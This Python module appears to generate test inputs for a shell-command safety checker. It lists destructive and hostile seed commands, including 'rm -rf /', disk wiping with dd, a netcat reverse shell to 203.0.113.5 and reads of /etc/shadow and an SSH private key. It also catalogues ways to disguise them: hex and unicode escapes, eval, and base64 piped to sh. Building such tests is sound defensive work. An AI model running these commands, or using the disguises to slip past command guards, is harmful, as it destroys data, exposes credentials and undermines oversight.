"""What may be done to a command without changing what it does, and what makes mere data of it."""

from __future__ import annotations

import base64
import shlex
from collections.abc import Callable

SEEDS = [
    "rm -rf /", "rm -rf ~", "git push --force origin main", "git reset --hard HEAD~3", "git clean -fdx", "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1", "kubectl delete namespace prod", "terraform destroy -auto-approve", "aws s3 rb s3://b --force",
    "gh repo delete a/b --yes", "npm publish", "docker system prune -af", "cat /etc/shadow", "chmod -R 777 /etc", "psql -c 'DROP TABLE users'",
    "shutdown -h now", "iptables -F", "crontab -r", "nc -e /bin/sh 203.0.113.5 4444", "helm uninstall web", "find / -delete",
    "truncate -s 0 /etc/hosts", "shred -u /etc/passwd", "cat /root/.ssh/id_rsa", "mysql -e 'DELETE FROM users'", "userdel bob", "redis-cli FLUSHALL",
]  # fmt: skip


def _hex(text: str) -> str:
    return "$'" + "".join(f"\\x{byte:02x}" for byte in text.encode()) + "'"


def _octal(text: str) -> str:
    return "$'" + "".join(f"\\{byte:03o}" for byte in text.encode()) + "'"


def _unicode(text: str) -> str:
    return "$'" + "".join(f"\\u{ord(letter):04x}" for letter in text) + "'"


def _broken(text: str) -> str:
    return f"{shlex.quote(text[:1])}''{shlex.quote(text[1:])}" if len(text) > 1 else shlex.quote(text)


def _slashed(text: str) -> str:
    return "".join(f"\\{letter}" for letter in text)


def _variables(words: list[str]) -> str:
    given = "; ".join(f"W{number}={shlex.quote(word)}" for number, word in enumerate(words))
    return given + "; " + " ".join(f'"$W{number}"' for number in range(len(words)))


def _plain(words: list[str]) -> bool:
    return all(word and not set(word) & set(" ,{}'\"~*$") for word in words)


WORDS: dict[str, Callable[[list[str]], str]] = {
    "as it is": shlex.join,
    "single quotes": lambda words: " ".join("'" + word.replace("'", "'\\''") + "'" for word in words),
    "double quotes": lambda words: " ".join(f'"{word}"' if "~" not in word else word for word in words),
    "hex": lambda words: " ".join(map(_hex, words)),
    "octal": lambda words: " ".join(map(_octal, words)),
    "unicode": lambda words: " ".join(map(_unicode, words)),
    "broken quotes": lambda words: " ".join(map(_broken, words)),
    "backslashes": lambda words: " ".join(map(_slashed, words)),
    "tabs": lambda words: "\t".join(map(shlex.quote, words)),
    "continued": lambda words: " \\\n  ".join(map(shlex.quote, words)),
    "variables": _variables,
    "program in a variable": lambda words: f"p={shlex.quote(words[0])}; $p {shlex.join(words[1:])}",
    "default value": lambda words: f"${{NOT_SET:-{shlex.quote(words[0])}}} {shlex.join(words[1:])}",
    "substituted by echo": lambda words: f"$(echo {shlex.quote(words[0])}) {shlex.join(words[1:])}",
    "substituted by printf": lambda words: f"$(printf %s {shlex.quote(words[0])}) {shlex.join(words[1:])}",
    "backticks": lambda words: f"`echo {shlex.quote(words[0])}` {shlex.join(words[1:])}",
    "array": lambda words: f'a=({shlex.join(words)}); "${{a[@]}}"',
    "set": lambda words: f'set -- {shlex.join(words)}; "$@"',
    "field separator": lambda words: "${IFS}".join(words) if _plain(words) else shlex.join(words),
    "braces": lambda words: "{" + ",".join(words) + "}" if _plain(words) else shlex.join(words),
    "folder": lambda words: f"/usr/bin/{shlex.join(words)}",
    "escaped program": lambda words: f"\\{shlex.join(words)}",
}
"""How the words of one command may be spelled; the shell makes the same words of each."""


def _document(text: str, head: str) -> str:
    mark = f"END_{len(text)}"
    return f"{head} <<'{mark}'\n{text}\n{mark}\n"


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


WRAPPERS: dict[str, Callable[[str], str]] = {
    "sudo": lambda text: f"sudo -n -u root sh -c {shlex.quote(text)}",
    "env": lambda text: f"env -u A B=1 bash -c {shlex.quote(text)}",
    "timeout": lambda text: f"timeout -s KILL 5 sh -c {shlex.quote(text)}",
    "nice": lambda text: f"nice -n 5 sh -c {shlex.quote(text)}",
    "nohup": lambda text: f"nohup sh -c {shlex.quote(text)} > /dev/null 2>&1 &",
    "and": lambda text: f"true && {text}",
    "or": lambda text: f"false || {{ {text}\n}}",
    "background": lambda text: f"{text} &",
    "subshell": lambda text: f"( {text}\n)",
    "group": lambda text: f"{{ {text}\n}}",
    "if": lambda text: f"if true; then {text}\nfi",
    "loop": lambda text: f"for i in 1; do {text}\ndone",
    "while": lambda text: f"while true; do {text}\nbreak; done",
    "case": lambda text: f"case x in *) {text}\n;; esac",
    "negated": lambda text: f"! {{ {text}\n}}",
    "timed": lambda text: f"time ( {text}\n)",
    "coprocess": lambda text: f"coproc {{ {text}\n}}",
    "function": lambda text: f"f{len(text)}() {{ {text}\n}}; f{len(text)}",
    "substitution": lambda text: f'echo "$( {text}\n)"',
    "assignment": lambda text: f"X=$( {text}\n)",
    "test": lambda text: f'[ -n "$( {text}\n)" ] && true',
    "sh": lambda text: f"sh -c {shlex.quote(text)}",
    "bash": lambda text: f"bash -xec {shlex.quote(text)}",
    "bash with options": lambda text: f"bash --norc -o pipefail -c {shlex.quote(text)} name arg",
    "eval": lambda text: f"eval {shlex.quote(text)}",
    "exec": lambda text: f"exec bash -c {shlex.quote(text)}",
    "command": lambda text: f"command sh -c {shlex.quote(text)}",
    "pipe": lambda text: f"printf %s {shlex.quote(text)} | sh",
    "pipe through tee": lambda text: f"echo {shlex.quote(text)} | tee log | bash -s",
    "here-string": lambda text: f"bash <<< {shlex.quote(text)}",
    "here-document": lambda text: _document(text, "bash"),
    "here-document through cat": lambda text: _document(text, "cat | sh"),
    "variable": lambda text: f'V{len(text)}={shlex.quote(text)}; eval "$V{len(text)}"',
    "base64": lambda text: f"echo {_encoded(text)} | base64 -d | sh",
    "base64 substituted": lambda text: f'bash -c "$(echo {_encoded(text)} | base64 --decode)"',
    "ssh": lambda text: f"ssh -p 22 host {shlex.quote(text)}",
    "docker": lambda text: f"docker exec -it box sh -c {shlex.quote(text)}",
    "kubectl": lambda text: f"kubectl exec -n x pod -- sh -c {shlex.quote(text)}",
    "xargs": lambda text: f"xargs -I{{}} sh -c {shlex.quote(text)} < list",
    "find": lambda text: f"find . -exec sh -c {shlex.quote(text)} \\;",
    "python": lambda text: f"python3 -c {shlex.quote(f'import os; os.system({text!r})')}",
    "script": lambda text: f"echo {shlex.quote(text)} > /tmp/s.sh; sh /tmp/s.sh",
    "sourced": lambda text: f"printf '%s\\n' {shlex.quote(text)} > x.sh && . ./x.sh",
    "process substitution": lambda text: f"bash <(echo {shlex.quote(text)})",
    "trap": lambda text: f"trap {shlex.quote(text)} EXIT",
    "watch": lambda text: f"watch -n 1 {shlex.quote(text)}",
    "comment": lambda text: f"ls # a note\n{text}",
    "su": lambda text: f"su - bob -c {shlex.quote(text)}",
    "script(1)": lambda text: f"script -qc {shlex.quote(text)} /dev/null",
    "env -S": lambda text: f"env -S {shlex.quote('sh -c ' + shlex.quote(text))}",
    "busybox": lambda text: f"busybox sh -c {shlex.quote(text)}",
    "setsid": lambda text: f"setsid -w bash -c {shlex.quote(text)}",
    "flock": lambda text: f"flock /tmp/l -c {shlex.quote(text)}",
}
"""How a whole text may be run by another; what it does stays."""


def _line(text: str) -> str:
    return text.replace("\n", " ")


FRAMES: dict[str, Callable[[str], str]] = {
    "echo": lambda text: f"echo {shlex.quote(text)}",
    "printf": lambda text: f"printf '%s\\n' {shlex.quote(text)} > notes.txt",
    "message": lambda text: f"git commit -m {shlex.quote(text)}",
    "message in pieces": lambda text: f"git commit -am 'docs: say more' -m {shlex.quote(text)}",
    "tag": lambda text: f"git tag -a v1 -m {shlex.quote(text)}",
    "grep": lambda text: f"grep -rn -e {shlex.quote(text)} src",
    "ripgrep": lambda text: f"rg --fixed-strings {shlex.quote(text)} docs | head",
    "here-document": lambda text: _document(text, "cat > notes.md"),
    "here-document to tee": lambda text: _document(text, "tee -a docs/notes.md"),
    "comment": lambda text: "ls # " + _line(text),
    "comment line": lambda text: "# " + _line(text) + "\nls -la",
    "variable": lambda text: f'M={shlex.quote(text)}; echo "$M"',
    "issue": lambda text: f"gh issue create --title x --body {shlex.quote(text)}",
    "pull request": lambda text: f"gh pr comment 7 --body {shlex.quote(text)}",
    "test": lambda text: f'[ "$c" = {shlex.quote(text)} ] && echo same',
    "double test": lambda text: f"[[ $c == {shlex.quote(text)} ]] && echo same",
    "case": lambda text: f'case "$c" in {shlex.quote(text)}) echo no;; esac',
    "log": lambda text: f"git log --grep {shlex.quote(text)}",
    "jq": lambda text: f"jq --arg a {shlex.quote(text)} . x.json",
    "python": lambda text: f"python3 -c {shlex.quote(f'print({text!r})')}",
    "function": lambda text: f"say() {{ echo {shlex.quote(text)}; }}; say",
    "array": lambda text: f"a=({shlex.quote(text)} other); echo ${{#a[@]}}",
    "piped to wc": lambda text: f"echo {shlex.quote(text)} | wc -c",
    "piped to grep": lambda text: f"echo {shlex.quote(text)} | grep -q x",
    "diff": lambda text: f"diff <(echo {shlex.quote(text)}) expected.txt",
    "here-string": lambda text: f"wc -w <<< {shlex.quote(text)}",
    "logger": lambda text: f"logger -t build {shlex.quote(text)}",
    "exit": lambda text: f"test -f x || {{ echo {shlex.quote(text)} >&2; exit 1; }}",
}
"""Where a text is only data."""
